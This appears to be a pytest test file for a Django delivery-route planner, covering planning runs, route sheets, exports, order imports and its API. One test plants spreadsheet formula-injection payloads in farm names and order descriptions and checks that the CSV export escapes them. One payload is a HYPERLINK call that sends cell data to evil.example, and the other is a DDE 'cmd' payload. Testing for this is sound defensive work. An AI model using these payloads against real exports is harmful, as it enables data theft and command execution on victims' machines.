"""The planner from the platform: who may plan, the week's problem built from vehicles and orders, a run
planned in the background with its progress, the results page (costs, status quo, sharing), route
sheets, CSV and GeoJSON exports, the order form's bad input, and the JSON API."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from terroir.accounts.models import Membership
from terroir.accounts.services import api_token_create
from terroir.directory.models import Actor
from terroir.logistics import services
from terroir.logistics.models import DeliveryOrder, Depot, OrderKind, PlanningRun, RunStatus, Vehicle

pytestmark = pytest.mark.django_db
WEEK = datetime.date(2026, 11, 23)  # a Monday
TUE_THU = 0b0001110


@pytest.fixture(autouse=True)
def _synchronous(monkeypatch: Any) -> None:
    """Runs go to the worker in production; here they run when the request's transaction commits."""
    monkeypatch.setattr(services, "_enqueue", services.run_execute)


def make_week(territory: Any) -> dict[str, Any]:
    farms = [territory.cheese_farm, territory.honey_farm]
    for farm, (lat, lon) in zip(farms, [(45.60, 3.70), (45.66, 3.55)], strict=True):
        farm.lat, farm.lon = lat, lon
        farm.save()
    market_garden = Actor.objects.create(name="Les Jardins de l'Allier", is_producer=True, lat=45.75, lon=3.40)
    farms.append(market_garden)
    buyers = [
        Actor.objects.create(name=name, is_buyer=True, lat=lat, lon=lon, phone="04 73 11 22 33", address=address)
        for name, lat, lon, address in [
            ("Cantine de Thiers", 45.856, 3.547, "1 rue du Collège"),
            ("Épicerie solidaire d'Ambert", 45.549, 3.741, "3 place du Livradois"),
            ("Magasin Les Volcans", 45.78, 3.09, "10 avenue de Royat"),
        ]
    ]
    depot = Depot.objects.create(name="Atelier de découpe", lat=45.65, lon=3.60)
    truck = Vehicle.objects.create(
        name="Camion frigo",
        depot=depot,
        vehicle_type="refrigerated_truck",
        capacity_kg=1500,
        cold_kg=1500,
        per_km=0.95,
        per_hour=18,
        fixed_per_day=55,
        weekdays=TUE_THU,
        driver="Léa Martin",
        driver_phone="06 11 22 33 44",
    )
    orders = []
    for i, (farm, buyer) in enumerate([(f, b) for f in farms for b in buyers]):
        orders.append(
            DeliveryOrder.objects.create(
                week=WEEK,
                kind=OrderKind.SHIPMENT,
                producer=farm,
                customer=buyer,
                description=f"Caisse {i}",
                kg=20 + i,
                value=100 + 10 * i,
                cold=farm == territory.cheese_farm,
                weekdays=TUE_THU,
            )
        )
    orders.append(
        DeliveryOrder.objects.create(
            week=WEEK,
            kind=OrderKind.COLLECTION,
            producer=farms[0],
            description="Carcasses",
            kg=200,
            cold=True,
            weekdays=TUE_THU,
        )
    )
    return {"truck": truck, "orders": orders, "farms": farms, "buyers": buyers}


def plan_week(client: Client, week: dict[str, Any], limit: str = "1") -> Any:
    data = {
        "week": WEEK.isoformat(),
        "vehicles": [week["truck"].pk],
        "orders": [o.pk for o in week["orders"]],
        "time_limit": limit,
    }
    response = client.post("/logistics/", data)
    assert response.status_code == 302, response.content.decode()[:500]
    return PlanningRun.objects.get()


def test_only_coordinators_and_carriers_may_plan(client: Client, people: Any, territory: Any) -> None:
    assert client.get("/logistics/").status_code == 302  # to log in
    client.force_login(people.claire)
    assert client.get("/logistics/").status_code == 403
    client.force_login(people.camille)
    assert client.get("/logistics/").status_code == 200
    carrier = Actor.objects.create(name="Transports du Forez", is_carrier=True)
    Membership.objects.create(user=people.hugo, actor=carrier, how="coordinator")
    client.force_login(people.hugo)
    assert client.get("/logistics/").status_code == 200


def test_a_week_is_planned_and_its_page_shows_costs_status_quo_and_sharing(
    client: Client, people: Any, territory: Any, django_capture_on_commit_callbacks: Any
) -> None:
    week = make_week(territory)
    client.force_login(people.camille)
    page = client.get(f"/logistics/?week={WEEK.isoformat()}").content.decode()
    assert "Camion frigo" in page and "Cantine de Thiers" in page
    with django_capture_on_commit_callbacks(execute=True):
        run = plan_week(client, week)
    run.refresh_from_db()
    assert run.status == RunStatus.DONE and run.fraction == 1.0, run.error
    assert run.plan["unserved"] == [] and {r["day"] for r in run.plan["rounds"]} <= {1, 2, 3}
    served = {s["order"] for r in run.plan["rounds"] for s in r["stops"] if s["order"]}
    assert served == {f"o{o.pk}" for o in week["orders"]}
    page = client.get(f"/logistics/runs/{run.pk}/").content.decode()
    assert 'id="status-quo"' in page and 'id="sharing"' in page and "Shapley" in page
    assert "Les Jardins de l&#x27;Allier" in page and "Cantine de Thiers" in page
    assert run.report["saved"]["km"] > 0
    # The collection has no customer: the table of customers names it, not by its order's id ("o71").
    customers = page[page.index('<table id="customers"') : page.index("</table>", page.index('<table id="customers"'))]
    collection = next(o for o in week["orders"] if o.customer is None)
    assert f">o{collection.pk}<" not in customers
    assert f"Collecte vers le dépôt\u202f: {collection.producer.name}".replace("'", "&#x27;") in customers
    assert sum(s["amount"] for s in run.report["sharing"]["shapley"]) == pytest.approx(
        run.report["total"]["cost"], abs=0.05
    )
    state = client.get(f"/logistics/runs/{run.pk}/state.json").json()
    assert state == {"status": "done", "stage": "done", "fraction": 1.0, "error": ""}


def test_route_sheets_and_exports(
    client: Client, people: Any, territory: Any, django_capture_on_commit_callbacks: Any
) -> None:
    week = make_week(territory)
    client.force_login(people.camille)
    with django_capture_on_commit_callbacks(execute=True):
        run = plan_week(client, week)
    run.refresh_from_db()
    sheets = client.get(f"/logistics/runs/{run.pk}/sheets/").content.decode()
    assert "Léa Martin" in sheets and "06 11 22 33 44" in sheets and "1 rue du Collège" in sheets
    assert "Carcasses" in sheets  # unloaded at the depot
    response = client.get(f"/logistics/runs/{run.pk}/rounds.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:4] == ["round", "day", "vehicle", "stop"]
    assert {r[7] for r in rows[1:] if r[7]} == {f"o{o.pk}" for o in week["orders"]}
    geo = json.loads(client.get(f"/logistics/runs/{run.pk}/rounds.geojson").content)
    lines = [f for f in geo["features"] if f["geometry"]["type"] == "LineString"]
    assert len(lines) == len(run.plan["rounds"]) and all(len(f["geometry"]["coordinates"]) >= 3 for f in lines)


def test_nothing_chosen_or_an_impossible_week_says_why(client: Client, people: Any, territory: Any) -> None:
    week = make_week(territory)
    client.force_login(people.camille)
    response = client.post("/logistics/", {"week": WEEK.isoformat(), "orders": [week["orders"][0].pk]})
    assert response.status_code == 400 and "Choisissez au moins un véhicule" in response.content.decode()
    assert not PlanningRun.objects.exists()


def test_an_order_no_plan_can_serve_is_listed_and_the_rest_planned(
    client: Client, people: Any, territory: Any, django_capture_on_commit_callbacks: Any
) -> None:
    week = make_week(territory)
    heavy = DeliveryOrder.objects.create(
        week=WEEK,
        producer=week["farms"][1],
        customer=week["buyers"][0],
        kg=5000,
        weekdays=TUE_THU,
        description="Trop lourd",
    )
    week["orders"].append(heavy)
    client.force_login(people.camille)
    with django_capture_on_commit_callbacks(execute=True):
        run = plan_week(client, week)
    run.refresh_from_db()
    assert run.plan["unserved"] == [{"order": f"o{heavy.pk}", "reason": "heavier than any vehicle"}]
    assert len({s["order"] for r in run.plan["rounds"] for s in r["stops"] if s["order"]}) == len(week["orders"]) - 1
    assert 'id="unserved"' in client.get(f"/logistics/runs/{run.pk}/").content.decode()


@pytest.mark.parametrize(
    ("changes", "field", "says"),
    [
        ({"kg": "-3"}, "kg", "supérieure ou égale à 0"),
        ({"customer": ""}, "customer", "Une livraison va à un client"),
        ({"delivery_opens": "11:00", "delivery_closes": "09:00"}, "delivery_closes", "se ferme avant de s’ouvrir"),
        (
            {"pickup_opens": "10:00", "delivery_opens": "06:00", "delivery_closes": "09:00"},
            "delivery_closes",
            "avant que l’enlèvement",
        ),
        ({"producer": "999999"}, "producer", "Sélectionnez un choix valide"),
    ],
)
def test_the_order_form_refuses_bad_input_by_field(
    client: Client, people: Any, territory: Any, changes: dict[str, str], field: str, says: str
) -> None:
    week = make_week(territory)
    client.force_login(people.camille)
    data = {
        "week": WEEK.isoformat(),
        "kind": "shipment",
        "producer": week["farms"][0].pk,
        "customer": week["buyers"][0].pk,
        "kg": "12",
        "crates": "1",
        "value": "80",
        "pickup_opens": "06:00",
        "pickup_closes": "12:00",
        "delivery_opens": "07:00",
        "delivery_closes": "12:00",
        "service_min": "5",
        "weekdays": ["1", "3"],
        "required": "on",
    } | changes
    response = client.post("/logistics/orders/new/", data)
    assert response.status_code == 400
    assert says in response.content.decode(), response.content.decode()[-3000:]
    assert response.context["form"].errors[field]
    good = client.post(
        "/logistics/orders/new/",
        data
        | {
            k: v
            for k, v in {
                "kg": "12",
                "customer": week["buyers"][0].pk,
                "producer": week["farms"][0].pk,
                "pickup_opens": "06:00",
                "delivery_opens": "07:00",
                "delivery_closes": "12:00",
            }.items()
        },
    )
    assert good.status_code == 302
    order = DeliveryOrder.objects.latest("pk")
    assert order.weekdays == 0b1010 and order.created_by == people.camille


def test_the_api_takes_a_problem_and_gives_the_plan(
    client: Client, people: Any, territory: Any, django_capture_on_commit_callbacks: Any
) -> None:
    _token, key = api_token_create(user=people.camille, name="planner", scope="write")
    week = make_week(territory)
    problem, _labels = services.problem_for_week([week["truck"]], week["orders"])
    headers = {"Authorization": f"Bearer {key}"}
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/api/v1/plans", {"problem": problem, "time_limit_s": 1}, content_type="application/json", headers=headers
        )
    assert response.status_code == 202, response.content
    run_id = response.json()["id"]
    body = client.get(f"/api/v1/plans/{run_id}", headers=headers).json()
    assert body["status"] == "done" and body["plan"]["rounds"] and body["report"]["sharing"]["shapley"]
    # Bad problems are refused naming the order.
    problem["orders"][0]["kg"] = -5
    refused = client.post("/api/v1/plans", {"problem": problem}, content_type="application/json", headers=headers)
    assert refused.status_code == 400
    assert (
        refused.json()["error"]["code"] == "invalid_problem"
        and problem["orders"][0]["id"] in refused.json()["error"]["message"]
    )
    problem["orders"][0]["kg"] = 5
    problem["orders"][0]["producer"] = "nobody"
    refused = client.post("/api/v1/plans", {"problem": problem}, content_type="application/json", headers=headers)
    assert "producteur inconnu «\u00a0nobody\u00a0»" in refused.json()["error"]["message"]  # French by default


def test_the_api_is_for_planners_with_a_write_key(client: Client, people: Any, territory: Any) -> None:
    _token, producer_key = api_token_create(user=people.claire, name="farm", scope="write")
    _token, read_key = api_token_create(user=people.camille, name="read", scope="read")
    body: dict[str, Any] = {"problem": {"depots": [], "vehicles": [], "orders": []}}
    for key, status in ((producer_key, 403), (read_key, 403)):
        response = client.post(
            "/api/v1/plans", body, content_type="application/json", headers={"Authorization": f"Bearer {key}"}
        )
        assert response.status_code == status
    assert client.post("/api/v1/plans", body, content_type="application/json").status_code == 401


def upload(client: Client, content: bytes, name: str = "commandes.csv") -> Any:
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(
        "/logistics/orders/import/", {"week": WEEK.isoformat(), "file": SimpleUploadedFile(name, content)}
    )


def test_a_spreadsheet_of_orders_in_windows_1252_is_imported(client: Client, people: Any, territory: Any) -> None:
    week = make_week(territory)
    client.force_login(people.camille)
    cheese, thiers = week["farms"][0], week["buyers"][0]
    text = (
        "Producteur;Client;Type;Marchandise;Kg;Caisses;Froid;Valeur;Jours;Enlèvement;Livraison_créneau\n"
        f"{cheese.name};Cantine de Thiers;ramasse-livraison;Fourme d'Ambert;12,5;2;oui;1 250,00 €;mar jeu;"
        "06:00-10:00;7h30-11h\n"
        f"{cheese.pk};;collecte;Carcasses;180;;oui;;mercredi;;\n"
    )
    before = DeliveryOrder.objects.count()
    response = upload(client, text.encode("cp1252"))
    assert response.status_code == 302, response.content.decode()[-2000:]
    first, second = DeliveryOrder.objects.order_by("-pk")[:2][::-1]
    assert DeliveryOrder.objects.count() == before + 2
    assert (first.producer, first.customer, first.kind, first.kg, first.value) == (
        cheese,
        thiers,
        "shipment",
        12.5,
        1250,
    )
    assert first.weekdays == 0b1010 and first.cold and first.delivery_opens == datetime.time(7, 30)
    assert first.description == "Fourme d'Ambert" and first.created_by == people.camille and first.week == WEEK
    assert (second.kind, second.customer, second.weekdays) == ("collection", None, 0b100)


def test_every_problem_of_a_spreadsheet_is_listed_by_line_and_nothing_kept(
    client: Client, people: Any, territory: Any
) -> None:
    farm = make_week(territory)["farms"][0].name
    Actor.objects.create(name="Cantine de Thiers", is_buyer=True, lat=45.8, lon=3.5)  # a namesake
    client.force_login(people.camille)
    text = (
        "producteur,client,kg,jours,enlevement,froid,type\n"
        "Ferme inconnue,Épicerie solidaire d'Ambert,10,mar,,non,\n"  # line 2: unknown producer
        f"{farm},Cantine de Thiers,-4,jamais,12:00-08:00,peut-être,\n"  # line 3: five problems
        f"{farm},,10,,,,livraison\n"  # line 4: a delivery without customer
        f"{farm},Magasin Les Volcans,10,,,,téléportation\n"  # line 5: unknown kind
    )
    before = DeliveryOrder.objects.count()
    response = upload(client, text.encode())
    assert response.status_code == 400 and DeliveryOrder.objects.count() == before
    problems = {(line, column) for line, column, _message in response.context["problems"]}
    # Each on the column as the file names it.
    assert {(2, "producteur"), (3, "client"), (3, "kg"), (3, "jours"), (3, "enlevement"), (3, "froid"),
            (4, "client"), (5, "type")} <= problems  # fmt: skip
    page = response.content.decode()
    assert "aucun producteur" in page.lower() or "Ferme inconnue" in page


@pytest.mark.parametrize(
    ("content", "name", "says"),
    [
        (b"", "vide.csv", "le fichier est vide"),  # the reading's own errors, in the reader's language
        (b"\x89PNG\r\n\x1a\n\x00\x00", "photo.png", "impossible de deviner le format"),
        (b"producteur;kg\n", "entete.csv", "commande"),
    ],
)
def test_files_that_are_not_orders_say_why(
    client: Client, people: Any, territory: Any, content: bytes, name: str, says: str
) -> None:
    client.force_login(people.camille)
    response = upload(client, content, name)
    assert response.status_code == 400
    assert says in response.content.decode(), response.content.decode()[-1500:]


def test_an_order_is_changed_then_deleted(client: Client, people: Any, territory: Any) -> None:
    week = make_week(territory)
    order = week["orders"][0]
    client.force_login(people.camille)
    page = client.get(f"/logistics/orders/{order.pk}/").content.decode()
    assert 'value="1" id="id_weekdays_1" checked' in page and 'value="0" id="id_weekdays_0" checked' not in page
    # A date input takes ISO dates only: in French too, the week must come back as 2026-11-23.
    assert 'type="date" name="week" value="2026-11-23"' in page
    form = client.get(f"/logistics/orders/{order.pk}/").context["form"]
    data = {k: v for k, v in form.initial.items() if v is not None}
    data |= {"producer": order.producer_id, "customer": order.customer_id, "kg": "33", "week": WEEK.isoformat(),
             "weekdays": ["2"], "pickup_opens": "06:00", "pickup_closes": "12:00", "delivery_opens": "07:00",
             "delivery_closes": "12:00"}  # fmt: skip
    data.pop("delivery_place", None)
    data.pop("ready_at", None)
    response = client.post(f"/logistics/orders/{order.pk}/", data)
    assert response.status_code == 302, response.content.decode()[-1500:]
    order.refresh_from_db()
    assert order.kg == 33 and order.weekdays == 0b100
    assert client.post(f"/logistics/orders/{order.pk}/delete/").status_code == 302
    assert not DeliveryOrder.objects.filter(pk=order.pk).exists()
    assert client.get(f"/logistics/orders/{order.pk}/delete/").status_code == 405


def test_no_more_than_two_plans_are_computed_at_once(client: Client, people: Any, territory: Any) -> None:
    week = make_week(territory)
    problem, _labels = services.problem_for_week([week["truck"]], week["orders"])
    for _ in range(2):
        PlanningRun.objects.create(problem=problem, status=RunStatus.RUNNING)
    _token, key = api_token_create(user=people.camille, name="planner", scope="write")
    response = client.post(
        "/api/v1/plans",
        {"problem": problem},
        content_type="application/json",
        headers={"Authorization": f"Bearer {key}"},
    )
    assert response.status_code == 429 and response["Retry-After"] == "60"
    client.force_login(people.camille)
    page = client.post("/logistics/", {"week": WEEK.isoformat(), "vehicles": [week["truck"].pk],
                                       "orders": [week["orders"][0].pk]})  # fmt: skip
    assert page.status_code == 400 and "déjà en cours de calcul" in page.content.decode()
    # A run left "running" by a server that stopped long ago does not count.
    PlanningRun.objects.update(created_at=timezone.now() - datetime.timedelta(hours=1))
    with pytest.raises(Exception, match="no order"):
        services.run_start({**problem, "orders": []}, by=people.camille)


def test_the_rounds_csv_escapes_names_that_spreadsheets_would_read_as_formulas(
    client: Client, people: Any, territory: Any, django_capture_on_commit_callbacks: Any
) -> None:
    week = make_week(territory)
    farm = week["farms"][2]
    farm.name = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
    farm.save()
    DeliveryOrder.objects.filter(producer=farm).update(description="-2+3+cmd|' /C calc'!A0")
    client.force_login(people.camille)
    with django_capture_on_commit_callbacks(execute=True):
        run = plan_week(client, week)
    text = client.get(f"/logistics/runs/{run.pk}/rounds.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Voir")' in cells
    assert "'-2+3+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) or cell.startswith("-2+") for cell in cells)


def test_a_run_sent_through_the_api_with_a_shipment_has_its_pages(
    client: Client, people: Any, territory: Any, django_capture_on_commit_callbacks: Any
) -> None:
    """A problem sent through the API has no names (labels): its pages name the orders by their ids."""
    carrier = Actor.objects.create(name="Transports du Forez", is_carrier=True)
    Membership.objects.create(user=people.hugo, actor=carrier, how="coordinator")
    _token, key = api_token_create(user=people.hugo, name="planner", scope="write")
    problem = {
        "depots": [{"id": "atelier", "place": {"lat": 45.5497, "lon": 3.7417}, "hours": ["05:00", "20:00"]}],
        "vehicles": [{"id": "camion-frigo", "depot": "atelier", "capacity_kg": 1200, "cold_kg": 800,
                      "days": ["tue"], "hours": ["06:00", "16:00"]}],
        "orders": [{"id": "fourme-supermarche", "kind": "shipment", "kg": 60, "cold": True, "value": 900,
                    "producer": "gaec", "customer": "volcans", "days": ["tue"],
                    "pickup": {"lat": 45.60, "lon": 3.70}, "delivery": {"lat": 45.78, "lon": 3.09}}],
    }  # fmt: skip
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/api/v1/plans", {"problem": problem, "time_limit_s": 1}, content_type="application/json",
            headers={"Authorization": f"Bearer {key}"},
        )  # fmt: skip
    assert response.status_code == 202, response.content
    run = PlanningRun.objects.get(pk=response.json()["id"])
    assert run.status == RunStatus.DONE and run.owner == carrier and run.labels == {}
    client.force_login(people.hugo)
    client.raise_request_exception = True
    for tail in ("", "sheets/", "rounds.csv", "rounds.geojson"):
        page = client.get(f"/logistics/runs/{run.pk}/{tail}")
        assert page.status_code == 200, tail
    text = client.get(f"/logistics/runs/{run.pk}/").content.decode()
    assert "gaec" in text and "volcans" in text
    # A plan without a week is titled by the day it was made, not "the week of" nothing.
    assert re.search(r"<h1>Tournées planifiées le \d{1,2} \w+ 20\d\d</h1>", text), text


def test_a_page_refused_says_why_in_french_with_a_way_back(client: Client, people: Any, territory: Any) -> None:
    client.force_login(people.claire)  # a producer
    response = client.get("/logistics/")
    page = response.content.decode()
    assert response.status_code == 403
    assert "Accès refusé" in page and "réservée aux coordinateurs et aux transporteurs" in page
    assert 'href="/account/space/"' in page


def test_a_producer_is_found_by_its_siret_written_the_way_spreadsheets_write_it(territory: Any, tmp_path: Any) -> None:
    from terroir.logistics.orders_import import orders_read

    make_week(territory)
    path = tmp_path / "commandes.csv"
    lines = ["Producteur;Client;Type;Kg;Jours"]
    lines += [
        f"{siret};Cantine de Thiers;ramasse-livraison;10;mar" for siret in ("732 829 320 00074", "732.829.320.00074")
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    read = orders_read(path, week=WEEK)
    assert read.problems == []
    assert [order.producer for order in read.orders] == [territory.cheese_farm, territory.cheese_farm]


# The vehicle by its name on the page, not by the problem's id ("v12"), which the page shows nowhere.
@pytest.mark.parametrize(("language", "said"), [
    ("fr", "véhicule Camion frigo\u202f: il n’a aucune capacité"),
    ("en", "vehicle Camion frigo: it has no capacity"),
])  # fmt: skip
def test_a_problem_the_planner_refuses_is_said_in_the_reader_s_language(
    client: Client, people: Any, territory: Any, language: str, said: str
) -> None:
    week = make_week(territory)
    week["truck"].capacity_kg = 0
    week["truck"].save()
    client.force_login(people.camille)
    data = {"week": WEEK.isoformat(), "vehicles": [week["truck"].pk], "orders": [o.pk for o in week["orders"]]}
    page = client.post("/logistics/", data, HTTP_ACCEPT_LANGUAGE=language).content.decode()
    assert said in page and f"v{week['truck'].pk}:" not in page
    assert not PlanningRun.objects.exists()
